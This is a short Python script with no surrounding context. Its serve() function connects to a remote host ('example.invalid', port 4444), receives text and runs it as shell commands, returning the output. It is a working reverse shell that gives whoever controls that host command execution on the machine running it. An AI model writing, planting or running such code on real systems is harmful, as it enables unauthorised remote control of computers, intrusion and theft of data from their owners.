import socket
import subprocess


def serve():
    s = socket.create_connection(("example.invalid", 4444))
    while True:
        data = s.recv(4096).decode()
        if not data:
            break
        s.send(subprocess.check_output(data, shell=True))
